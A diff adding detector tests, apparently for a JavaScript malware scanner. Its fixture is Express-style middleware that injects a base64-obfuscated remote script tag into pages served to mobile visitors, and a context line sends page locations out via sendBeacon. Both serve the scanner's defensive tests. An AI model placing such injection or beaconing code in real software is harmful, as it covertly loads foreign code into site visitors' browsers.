@@ -1752,3 +1752,28 @@ navigator.sendBeacon('https://vitals.seo-cdn.example/v',JSON.stringify({u:locati
     ).toEqual([]);
   });
 });
+
+describe('HTML responses rewritten by server middleware', () => {
+  const mw = (src: string) =>
+    load({
+      'index.js': `const H = ${src};
+module.exports = () => (req, res, next) => {
+  const send = res.send;
+  res.send = function (body) {
+    if (typeof body === 'string' && /mobile|android/i.test(req.get('user-agent') || '')) body = body.replace('</head>', \`<script async src="\${H}?r=\${encodeURIComponent(req.hostname)}"></script></head>\`);
+    return send.call(this, body);
+  };
+  next();
+};`,
+    });
+  it('a script tag whose address is decoded at run time, added to chosen visitors’ pages', () => {
+    expect(
+      mw(
+        "Buffer.from('aHR0cHM6Ly9zdGF0aWMtZWRnZWhpbnRzLmV4YW1wbGUvcC5qcw==', 'base64').toString()",
+      ).evidence.map((f) => f.rule),
+    ).toContain('js.decoded-remote-script');
+  });
+  it('quiet: the same middleware adding its own analytics script written out in the code', () => {
+    expect(threatsOf(mw("'https://cdn.analytics-own.example/a.js'"))).toEqual([]);
+  });
+});
